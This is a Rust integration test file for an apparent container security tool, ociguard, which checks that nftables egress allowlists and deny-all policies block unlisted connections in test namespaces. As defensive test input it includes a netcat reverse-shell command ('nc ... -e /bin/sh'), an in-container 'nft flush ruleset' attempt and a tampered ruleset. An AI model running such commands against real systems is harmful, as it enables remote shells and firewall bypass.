//! Egress allowlists end to end: real containers through ociguard and crun, rules installed by
//! `ociguard-hook egress` in the container's network namespace (its own netlink batch by default,
//! `nft` when configured), and test hosts the test builds itself (`ip netns` + veth,
//! 198.18.0.0/15 only). Nothing is ever sent elsewhere.

#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a panic is the failure report

mod common;

use std::io::Write;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use common::netns::{counted_packets, Net};
use common::*;
use serde_json::{json, Value};

macro_rules! require_egress {
    () => {{
        if let Some(why) = common::cannot_run_containers() {
            eprintln!("skip: {}", why);
            return;
        }
        if !Path::new("/usr/sbin/nft").exists()
            || !Path::new("/usr/sbin/ip").exists() && !Path::new("/sbin/ip").exists()
        {
            eprintln!("skip: nft or ip not installed (scripts/host-setup.sh)");
            return;
        }
        common::monitor::sibling_bin("ociguard-hook")
    }};
}

/// A TCP listener inside a test host's namespace that counts and answers connections.
struct Listener {
    accepted: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Listener {
    fn start(netns: &str, addr: &str) -> Listener {
        let accepted = Arc::new(AtomicUsize::new(0));
        let stop = Arc::new(AtomicBool::new(false));
        let (tx, rx) = std::sync::mpsc::channel();
        let (a, s) = (accepted.clone(), stop.clone());
        let ns = PathBuf::from(format!("/run/netns/{netns}"));
        let addr = addr.to_owned();
        let thread = std::thread::spawn(move || {
            // Network namespaces are per thread: only this thread moves.
            let f = std::fs::File::open(&ns).unwrap();
            nix::sched::setns(&f, nix::sched::CloneFlags::CLONE_NEWNET).unwrap();
            let l = TcpListener::bind(&addr).unwrap();
            l.set_nonblocking(true).unwrap();
            tx.send(()).unwrap();
            while !s.load(Ordering::SeqCst) {
                match l.accept() {
                    Ok((mut c, _)) => {
                        a.fetch_add(1, Ordering::SeqCst);
                        let _ = c.write_all(b"hello\n");
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(10)),
                }
            }
        });
        rx.recv_timeout(Duration::from_secs(5)).unwrap();
        Listener {
            accepted,
            stop,
            thread: Some(thread),
        }
    }
    fn count(&self) -> usize {
        self.accepted.load(Ordering::SeqCst)
    }
}

impl Drop for Listener {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// Test host `a` = 198.18.1.1, `b` = 198.18.2.1 (the container is .2 on each link).
fn a(net: &Net) -> &str {
    &net.hosts[0].netns
}
fn b(net: &Net) -> &str {
    &net.hosts[1].netns
}

/// Tries each connection and prints `host:port=open|refused`, then a reverse-shell attempt.
const PROBE: &str = "try() { if nc -w 3 $1 $2 </dev/null >/dev/null 2>&1; then echo $1:$2=open; else echo $1:$2=refused; fi; }; \
try 198.18.1.1 8080; try 198.18.1.1 9090; try 198.18.2.1 8080; \
nc -w 3 198.18.2.1 4444 -e /bin/sh; echo revshell=$?";

/// Identity hooks are off in these tests: crun 1.8.1 waits for a hook with sigtimedwait on
/// SIGCHLD and, under `crun run`, can take the container's own exit for it and then wait out the
/// hook's whole timeout (30 s) when the container exits while a poststart hook runs.
const NO_IDENTITY: &str = "\n[identity]\nmode = \"off\"\n";

/// A World with a control default policy (no egress rules); tests replace it.
fn world(hook: &Path, extra: &str) -> World {
    let w = World::new();
    configure(&w, hook, extra);
    w.policy("default.toml", &format!("name = \"default\"{NO_IDENTITY}"));
    w
}

fn policy(w: &World, text: &str) {
    w.policy("default.toml", &format!("{text}{NO_IDENTITY}"));
}

fn configure(w: &World, hook: &Path, extra: &str) {
    w.write_config(&format!(
        "hook_path = \"{}\"\nmonitor_socket = \"{}\"\nspool_dir = \"{}\"\n{extra}",
        hook.display(),
        w.path().join("monitor.sock").display(),
        w.path().join("spool").display(),
    ));
}

fn joined(script: &str, net: &Net) -> Value {
    let mut s = spec(script);
    s["linux"]["namespaces"] = json!([{"type": "pid"}, {"type": "network", "path": net.path()}, {"type": "ipc"}, {"type": "uts"}, {"type": "mount"}]);
    s
}

fn run(w: &World, name: &str, spec: &Value) -> (bool, String, String) {
    let b = w.bundle(name, spec);
    let log = w.path().join(format!("{name}.log"));
    let t = std::time::Instant::now();
    let out = w.ociguard(&[
        "--log",
        log.to_str().unwrap(),
        "run",
        "--bundle",
        b.to_str().unwrap(),
        name,
    ]);
    eprintln!("\nrun {name}: {:?}", t.elapsed());
    let log = std::fs::read_to_string(&log).unwrap_or_default();
    (
        out.status.success(),
        stdout(&out),
        format!("{}{log}", stderr(&out)),
    )
}

const ALLOWLIST: &str = r#"name = "default"
[egress]
mode = "allowlist"
[[egress.allow]]
cidr = "198.18.1.1"
protocol = "tcp"
ports = [8080]
"#;

#[test]
fn allowlist_allows_only_what_it_lists() {
    let hook = require_egress!();
    let net = Net::new("al", 2);
    let a8080 = Listener::start(a(&net), "198.18.1.1:8080");
    let a9090 = Listener::start(a(&net), "198.18.1.1:9090");
    let b8080 = Listener::start(b(&net), "198.18.2.1:8080");
    let b4444 = Listener::start(b(&net), "198.18.2.1:4444");

    // Control: without an egress policy every test host answers.
    let w = world(&hook, "");
    let (ok, out, err) = run(&w, "al-control", &joined(PROBE, &net));
    assert!(ok, "{err}");
    assert!(
        out.contains("198.18.1.1:8080=open")
            && out.contains("198.18.1.1:9090=open")
            && out.contains("198.18.2.1:8080=open"),
        "{out}"
    );
    assert_eq!(
        b4444.count(),
        1,
        "the reverse shell reached its listener without a policy"
    );
    assert!(net.table().is_none());

    let w = world(&hook, "");
    policy(&w, ALLOWLIST);
    let (ok, out, err) = run(&w, "al-restricted", &joined(PROBE, &net));
    assert!(ok, "{err}");
    assert!(out.contains("198.18.1.1:8080=open"), "{out}");
    assert!(out.contains("198.18.1.1:9090=refused"), "{out}");
    assert!(out.contains("198.18.2.1:8080=refused"), "{out}");
    assert!(out.contains("revshell=1"), "{out}");
    assert_eq!(a8080.count(), 2);
    assert_eq!(a9090.count(), 1, "only the control run reached 9090");
    assert_eq!(b8080.count(), 1, "only the control run reached host b");
    assert_eq!(
        b4444.count(),
        1,
        "the reverse shell never connected under the policy"
    );

    // The decision names the ruleset, and the denial counter saw the attempts.
    let d = w.last_decision();
    let egress = change(&d, "egress");
    assert_eq!(egress["applied"], true);
    let digest = egress["ruleset_digest"].as_str().unwrap();
    assert!(digest.starts_with("sha256:"));
    let caps = change(&d, "capabilities_dropped");
    assert_eq!(caps["capabilities"], json!(["CAP_NET_RAW"]));
    let table = net
        .table()
        .expect("the ruleset is installed in the container's namespace");
    assert!(counted_packets(&table) >= 3, "{table}");
}

#[test]
fn host_names_resolve_through_the_pinned_hosts_file() {
    let hook = require_egress!();
    let net = Net::new("dn", 2);
    let a8080 = Listener::start(a(&net), "198.18.1.1:8080");
    let a9090 = Listener::start(a(&net), "198.18.1.1:9090");
    let w2 = World::new();
    let hosts = w2.path().join("hosts");
    std::fs::write(&hosts, "198.18.1.1 api.ociguard.test\n").unwrap();
    configure(
        &w2,
        &hook,
        &format!("[egress]\nhosts_file = \"{}\"\n", hosts.display()),
    );
    policy(
        &w2,
        "name = \"default\"\n[egress]\nmode = \"allowlist\"\n[[egress.allow]]\nhost = \"api.ociguard.test\"\nports = [8080]\n",
    );
    let (ok, out, err) = run(&w2, "dn", &joined(PROBE, &net));
    assert!(ok, "{err}");
    assert!(
        out.contains("198.18.1.1:8080=open") && out.contains("198.18.1.1:9090=refused"),
        "{out}"
    );
    assert_eq!((a8080.count(), a9090.count()), (1, 0));
    let d = w2.last_decision();
    let res = change(&d, "egress_hosts_resolved");
    assert_eq!(res["resolved"]["api.ociguard.test"], json!(["198.18.1.1"]));

    // A name that does not resolve fails the create (on_unresolvable = "fail" by default).
    policy(
        &w2,
        "name = \"default\"\n[egress]\nmode = \"allowlist\"\n[[egress.allow]]\nhost = \"missing.ociguard.invalid\"\n",
    );
    let spec = joined("echo started", &net);
    let (ok, out, err) = run(&w2, "dn-missing", &spec);
    assert!(!ok && !out.contains("started"), "{out}");
    assert!(
        err.contains("missing.ociguard.invalid") && err.contains("on_unresolvable"),
        "{err}"
    );
    let cfg = std::fs::read(w2.path().join("dn-missing/config.json")).unwrap();
    assert_eq!(
        cfg,
        serde_json::to_vec_pretty(&spec).unwrap(),
        "config.json untouched"
    );
}

#[test]
fn deny_all_leaves_only_loopback() {
    let hook = require_egress!();
    let net = Net::new("da", 2);
    let a8080 = Listener::start(a(&net), "198.18.1.1:8080");
    let w = world(&hook, "");
    policy(&w, "name = \"default\"\n[egress]\nmode = \"deny-all\"\n");
    let script = "nc -l -p 7000 -e echo loopback-ok & sleep 0.3; nc -w 2 127.0.0.1 7000 </dev/null; \
                  if nc -w 3 198.18.1.1 8080 </dev/null >/dev/null 2>&1; then echo a=open; else echo a=refused; fi";
    let (ok, out, err) = run(&w, "da", &joined(script, &net));
    assert!(ok, "{err}");
    assert!(
        out.contains("loopback-ok") && out.contains("a=refused"),
        "{out}"
    );
    assert_eq!(a8080.count(), 0);

    // Host networking under deny-all: the container gets a new, empty namespace.
    let mut host = spec("ls /sys/class/net; readlink /proc/self/ns/net");
    host["linux"]["namespaces"] =
        json!([{"type": "pid"}, {"type": "mount"}, {"type": "ipc"}, {"type": "uts"}]);
    host["mounts"].as_array_mut().unwrap().push(
        json!({"destination": "/sys", "type": "sysfs", "source": "sysfs", "options": ["ro"]}),
    );
    let (ok, out, err) = run(&w, "da-host", &host);
    assert!(ok, "{err}");
    let node_ns = std::fs::read_link("/proc/self/ns/net").unwrap();
    assert!(!out.contains(node_ns.to_str().unwrap()), "{out}");
    assert_eq!(out.lines().next(), Some("lo"), "{out}");
}

#[test]
fn host_network_is_refused_under_an_allowlist() {
    let hook = require_egress!();
    let w = world(&hook, "");
    policy(&w, ALLOWLIST);
    let mut host = spec("echo started");
    host["linux"]["namespaces"] = json!([{"type": "pid"}, {"type": "mount"}]);
    let (ok, out, err) = run(&w, "hn", &host);
    assert!(!ok && !out.contains("started"), "{out}");
    assert!(
        err.contains("host's network namespace") && err.contains("allow_host_network"),
        "{err}"
    );
    let list = w.containers();
    assert!(list.is_empty(), "nothing left behind: {list:?}");
}

/// The host's nft, run inside the container from a read-only bind mount of /usr.
const NFT_IN_CONTAINER: &str = "/host/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 --library-path /host/usr/lib/x86_64-linux-gnu /host/usr/sbin/nft";

#[test]
fn the_container_cannot_undo_its_rules() {
    let hook = require_egress!();
    let net = Net::new("un", 2);
    let script = format!("{NFT_IN_CONTAINER} flush ruleset; echo flush=$?");
    let mut s = joined(&script, &net);
    for set in ["bounding", "effective", "permitted"] {
        s["process"]["capabilities"][set]
            .as_array_mut()
            .unwrap()
            .push(json!("CAP_NET_ADMIN"));
    }
    s["mounts"].as_array_mut().unwrap().push(json!({"destination": "/host/usr", "type": "bind", "source": "/usr", "options": ["rbind", "ro"]}));

    // Control: with CAP_NET_ADMIN and no egress policy, uid 0 in the container can flush.
    let w = world(&hook, "");
    let (ok, out, err) = run(&w, "un-control", &s);
    assert!(ok, "{err}");
    assert!(out.contains("flush=0"), "{out}");

    let w = world(&hook, "");
    policy(&w, ALLOWLIST);
    let (ok, out, err) = run(&w, "un", &s);
    assert!(ok, "{err}");
    assert!(out.contains("flush=1"), "{out}");
    assert!(err.contains("Operation not permitted"), "{err}");
    let table = net
        .table()
        .expect("the table survived the container's attempt");
    assert!(table.to_string().contains("\"output\""), "{table}");
    let d = w.last_decision();
    let caps = change(&d, "capabilities_dropped");
    assert_eq!(
        caps["capabilities"],
        json!(["CAP_NET_ADMIN", "CAP_NET_RAW"])
    );
}

#[test]
fn a_hook_that_cannot_install_fails_the_create() {
    let hook = require_egress!();
    let net = Net::new("hf", 2);
    // nft that always fails: the rules are not installed, so the container must not run. (The
    // netlink installer's kernel errors are covered by ociguard-hook's own tests.)
    let w = world(
        &hook,
        "[egress]\ninstaller = \"nft\"\nnft = \"/bin/false\"\n",
    );
    policy(&w, ALLOWLIST);
    let (ok, out, err) = run(&w, "hf", &joined("echo started", &net));
    assert!(!ok && !out.contains("started"), "{out}");
    assert!(
        err.contains("failed to install the egress ruleset"),
        "{err}"
    );
    let list = w.containers();
    assert!(list.is_empty(), "{list:?}");

    // A ruleset file changed after create decided it is refused by digest.
    let w = world(&hook, "");
    policy(&w, ALLOWLIST);
    let b = w.bundle("tamper", &joined("echo started", &net));
    let out = w.ociguard_detached(&["create", "--bundle", b.to_str().unwrap(), "tamper"]);
    assert!(out.status.success(), "{}", stderr(&out));
    w.ociguard(&["delete", "-f", "tamper"]);
    let dir = w.path().join("state/egress");
    let file = std::fs::read_dir(&dir)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    std::fs::write(&file, "{\"nftables\":[{\"flush\":{\"ruleset\":null}}]}").unwrap();
    let b2 = w.bundle("tamper2", &joined("echo started", &net));
    // create would rewrite the file (content-addressed, wrong content): run the hook directly.
    let cfg: Value =
        serde_json::from_slice(&std::fs::read(b.join("config.json")).unwrap()).unwrap();
    let entry = cfg["hooks"]["createRuntime"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["args"][1] == "egress")
        .unwrap()
        .clone();
    let args: Vec<String> = entry["args"]
        .as_array()
        .unwrap()
        .iter()
        .skip(1)
        .map(|a| a.as_str().unwrap().to_owned())
        .collect();
    let mut child = Command::new(&hook)
        .args(&args)
        .stdin(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let me = std::process::id();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(
            format!(
                r#"{{"ociVersion":"1.0.2","id":"x","status":"creating","bundle":"{}","pid":{me}}}"#,
                b2.display()
            )
            .as_bytes(),
        )
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("refusing to install a ruleset"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn explain_shows_the_ruleset_create_installs() {
    let hook = require_egress!();
    let ctl = common::monitor::sibling_bin("ociguardctl");
    let net = Net::new("ex", 2);
    let w = world(&hook, "");
    policy(&w, ALLOWLIST);
    let b = w.bundle("ex", &joined("echo started", &net));
    let out = Command::new(&ctl)
        .env("OCIGUARD_CONFIG", w.config())
        .args(["explain", "--json"])
        .arg(&b)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let explained: Value = serde_json::from_slice(&out.stdout).unwrap();
    let egress = &explained["egress"];
    assert!(
        egress["text"]
            .as_str()
            .unwrap()
            .contains("ip daddr { 198.18.1.1 } meta l4proto { tcp } th dport { 8080 } accept"),
        "{egress}"
    );
    assert!(
        !w.path().join("state/egress").exists(),
        "explain writes nothing"
    );
    let human = Command::new(&ctl)
        .env("OCIGUARD_CONFIG", w.config())
        .arg("explain")
        .arg(&b)
        .output()
        .unwrap();
    assert!(
        stdout(&human).contains("egress ruleset: sha256:"),
        "{}",
        stdout(&human)
    );

    let (ok, out, err) = run(&w, "ex", &joined("echo started", &net));
    assert!(ok && out.contains("started"), "{err}");
    let d = w.last_decision();
    let applied = change(&d, "egress")["ruleset_digest"].clone();
    assert_eq!(applied, egress["digest"]);
    let table = net.table().unwrap();
    let rules = table["nftables"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|o| o.get("rule").is_some())
        .count();
    assert_eq!(rules as u64, egress["rules"].as_u64().unwrap());
}

/// The netlink batch the hook sends itself and nft's own translation of the same ruleset give the
/// same table, rule for rule, as nft lists it back from the kernel.
#[test]
fn both_installers_install_the_same_table() {
    let hook = require_egress!();
    let text = r#"name = "default"
[egress]
mode = "allowlist"
on_deny = "reject"
[[egress.allow]]
cidr = "198.18.1.1"
protocol = "tcp"
ports = [8080]
[[egress.allow]]
cidr = "198.18.1.0/24"
protocol = "udp"
ports = [53, "8000-8080", 9000]
[[egress.allow]]
cidr = "198.18.2.0/25"
ports = ["1000-2000"]
[[egress.allow]]
cidr = "198.18.2.128/25"
ports = ["1000-2000"]
[[egress.allow]]
cidr = "10.1.0.0/23"
[[egress.allow]]
cidr = "10.2.0.0/16"
[[egress.allow]]
cidr = "fd00::1"
[[egress.allow]]
cidr = "fd00:1::/48"
[[egress.allow]]
cidr = "fd00:2::/63"
"#;
    let mut listings = Vec::new();
    for installer in ["netlink", "nft"] {
        let net = Net::new(&format!("in{}", &installer[..2]), 2);
        let w = world(&hook, &format!("[egress]\ninstaller = \"{installer}\"\n"));
        policy(&w, text);
        let (ok, out, err) = run(&w, "inst", &joined("echo started", &net));
        assert!(ok && out.contains("started"), "{installer}: {err}");
        let written: Value = serde_json::from_slice(
            &std::fs::read(w.path().join("inst").join("config.json")).unwrap(),
        )
        .unwrap();
        let hooks = written["hooks"]["createRuntime"].to_string();
        assert!(
            hooks.contains(&format!("\"--installer\",\"{installer}\"")),
            "{hooks}"
        );
        listings.push(net.listing());
    }
    assert_eq!(listings[0], listings[1]);
    for want in [
        "ip daddr 198.18.1.1 tcp dport 8080 accept",
        "ip daddr 198.18.1.0/24 udp dport { 53, 8000-8080, 9000 } accept",
        "ip daddr 198.18.2.0/24 meta l4proto { tcp, udp } th dport 1000-2000 accept",
        "ip daddr { 10.1.0.0/23, 10.2.0.0/16 } accept",
        "ip6 daddr { fd00::1, fd00:1::/48, fd00:2::/63 } accept",
    ] {
        assert!(listings[0].contains(want), "{want}\n{}", listings[0]);
    }
}
